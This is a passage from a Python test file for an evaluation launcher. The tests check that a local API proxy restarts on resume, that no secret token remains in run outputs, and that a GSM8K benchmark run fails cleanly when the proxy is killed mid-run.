    assert json.loads((folder / "proxy/proxy_stats.json").read_text())["upstream_requests"] > 0
    run_config = json.loads((folder / "launcher.gsm8k_cot_zeroshot/results/run_config.json").read_text())
    assert run_config["url"].startswith("http://127.0.0.1:") and run_config["api_key_env"] == "API_KEY"
    run_sh = (folder / "launcher.gsm8k_cot_zeroshot/run.sh").read_text()
    assert 'API_KEY="${LAUNCHER_PROXY_TOKEN}"' in run_sh and "E2E_PROXY_KEY" not in run_sh

    proc = cli("resume", inv, "--wait", env=env, timeout=300)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr
    assert jobs(cli, inv)["launcher.gsm8k_cot_zeroshot"]["score"] == GSM8K_PERFECT
    new_pid = int((folder / "proxy/proxy.pid").read_text())
    assert new_pid != pid and pid_gone(new_pid)  # resume started a new proxy; it ended with the run
    assert "listening on" in (folder / "logs/proxy.log").read_text()
    for path in folder.rglob("*"):
        if path.is_file():
            assert secret not in path.read_text(errors="replace"), path


def test_proxy_dying_mid_run_fails_the_task_clearly(tmp_path, started, endpoint):
    ep = endpoint("oracle", latency=0.3)
    proxy = ProxyProcess(tmp_path, ep.url(), {})
    started.append(proxy)
    config = harness_config(tmp_path / "r", f"{proxy.base}/v1/chat/completions", "gsm8k_cot_zeroshot", 200)
    harness = subprocess.Popen(
        [sys.executable, "-m", "launcher.harness", "run", "--config", str(config)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT), "API_KEY": TOKEN},
    )  # fmt: skip
    deadline = time.monotonic() + 60
    while ep.stats()["total"] < 5 and time.monotonic() < deadline:
        time.sleep(0.1)
    proxy.proc.kill()  # the proxy dies (SIGKILL: no goodbye)
    out, _ = harness.communicate(timeout=300)  # ends on its own: never a hang
    assert harness.returncode not in (0, None), out
    assert f"127.0.0.1:{proxy.port}" in out or "connect" in out.lower(), out[-2000:]
